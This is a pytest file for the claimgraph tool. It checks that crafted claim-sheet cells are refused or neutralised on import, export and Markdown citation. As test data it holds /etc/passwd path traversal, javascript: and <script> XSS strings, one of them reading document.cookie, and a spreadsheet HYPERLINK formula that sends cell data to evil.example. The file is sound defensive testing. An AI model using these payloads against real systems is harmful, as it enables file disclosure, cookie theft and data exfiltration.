"""Claim sheets written to break things (issue 10): texts outside the data folder, values no
figure can have, dates that do not exist, duplicate keys, links that run code, formulas for
spreadsheets. Each is refused with one line naming the row and column, and nothing is written;
what claimgraph writes itself never runs in a spreadsheet or a Markdown viewer."""
import csv
import os
import shutil
from pathlib import Path

import pytest
from rdflib import Graph
from rdflib.compare import isomorphic

from test_sheets import CORPUS, LEDGER, _edit, snapshot


@pytest.fixture
def ledger(tmp_path) -> Path:
    for suffix in (".csv", ".txt"):
        shutil.copy(CORPUS / f"{LEDGER}{suffix}", tmp_path / f"{LEDGER}{suffix}")
    return tmp_path / f"{LEDGER}.csv"


HOSTILE = [
    ("text by absolute path", 2, "source_text", "/etc/passwd", "not an absolute path"),
    ("text leading out", 2, "source_text", "../../etc/passwd", "leads out of"),
    ("a device", 2, "source_text", "/dev/zero", "not an absolute path"),
    ("text named as RDF", 2, "source_text", "entities.ttl", "cannot be an RDF data file"),
    ("javascript link", 2, "source_url", "javascript:alert(1)", "is not an http(s) URL"),
    ("date that does not exist", 2, "source_published", "2024-13-45", "'2024-13-45' is not a date"),
    ("time that does not exist", 2, "source_retrieved", "2024-02-30T25:61", "'2024-02-30T25:61' is not a date"),
    ("duplicate key", 3, "key", "total", "'total' is also the key of row 2"),
] + [(f"value {v}", 2, "value", v, "is not a number") for v in
     ("Infinity", "-Infinity", "NaN", "sNaN", "1e5000", "1e999999999", "1e309", "1e-400", "12abc")] + [
    ("value past 10^18", 2, "value", "2000000000000000000", "is not a number"),
    ("more than 6 decimals", 2, "value", "0.1234567", "more than 6 digits after the point"),
]


@pytest.mark.parametrize("case, row, column, value, message", HOSTILE, ids=[h[0] for h in HOSTILE])
def test_hostile_cell_is_refused_with_row_and_column_and_nothing_is_written(run, data_copy, ledger, case, row,
                                                                            column, value, message):
    _edit(ledger, row, column, value)
    before = snapshot(data_copy)
    result = run("import", ledger, "--data", data_copy)
    assert result.exit_code == 1, result.output
    assert f"row {row}, column {column}: " in result.stderr and message in result.stderr, result.stderr
    assert "Traceback" not in result.stderr
    assert snapshot(data_copy) == before


def test_a_kill_between_the_renames_leaves_a_folder_that_reads_and_imports(run, data_copy, ledger, monkeypatch):
    """Regression: a kill after the Turtle's rename and before the text's left a .ttl without its
    .txt, and every command, the re-import included, exited with an error. The text is renamed
    first now: a kill in between leaves a text no data file names, which is harmless."""
    import claimgraph.data

    renames, real = [], os.replace

    def killed_after_one(src, dst):
        if renames:
            raise KeyboardInterrupt  # the process dies here
        renames.append(dst)
        real(src, dst)

    monkeypatch.setattr(claimgraph.data.os, "replace", killed_after_one)
    with pytest.raises(KeyboardInterrupt):
        from claimgraph.importer import import_sheet
        import_sheet(ledger, data_copy)
    monkeypatch.setattr(claimgraph.data.os, "replace", real)
    assert [Path(p).suffix for p in renames] == [".txt"]
    for leftover in data_copy.glob(".*.tmp"):
        leftover.unlink()  # what a killed process leaves: its own temporary file
    assert run("validate", "--data", data_copy).exit_code == 0
    result = run("import", ledger, "--data", data_copy)
    assert result.exit_code == 0, result.output
    assert run("lookup", "second home", "--data", data_copy).exit_code == 0


def test_formulas_in_cells_are_neutralised_in_the_csv_export_and_round_trip(run, data_copy, ledger, tmp_path):
    """OWASP CSV injection: a cell starting with = + - @ opens as a formula in a spreadsheet."""
    _edit(ledger, 2, "statement", '=HYPERLINK("http://evil.example/?"&A1,"click")')
    assert run("import", ledger, "--data", data_copy).exit_code == 0
    sheet = tmp_path / "out.csv"
    assert run("export", "--format", "csv", "--data", data_copy, "-o", sheet).exit_code == 0
    cells = [cell for row in csv.reader(sheet.open(encoding="utf-8")) for cell in row]
    assert "'=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")" in cells
    assert not any(c[:1] in ("=", "+", "@") for c in cells)
    fresh = tmp_path / "fresh"
    fresh.mkdir()
    for name in ("entities.ttl", "gbnews-2024-07-18-russian-exodus.txt", f"{LEDGER}.txt"):
        shutil.copy(data_copy / name, fresh)
    assert run("import", sheet, "--data", fresh).exit_code == 0
    name = f"{LEDGER}.ttl"
    assert isomorphic(Graph().parse(fresh / name), Graph().parse(data_copy / name))


def test_markdown_citations_escape_html_and_link_only_http(run, data_copy):
    ttl = data_copy / "gbnews-2024-07-18-russian-exodus.ttl"
    text = ttl.read_text(encoding="utf-8")
    text = text.replace("<https://gbnews.com/news/world/putin-defections-russians-flee-russia-ukraine-war>",
                        "<javascript:alert(document.cookie)>")
    text = text.replace('schema:headline "More than 650,000 Russians',
                        'schema:headline "<script>alert(1)</script> [x](javascript:alert(2)) More than 650,000 Russians')
    ttl.write_text(text, encoding="utf-8")
    result = run("lookup", "permanent loss", "--cite", "markdown", "--data", data_copy)
    assert result.exit_code == 0, result.output
    assert "<script>" not in result.stdout and "&lt;script&gt;" in result.stdout
    assert "javascript:alert(document.cookie)" not in result.stdout  # the source's URL is not linked
    assert "](javascript" not in result.stdout and r"\[x\]\(javascript" in result.stdout  # the title's link is text
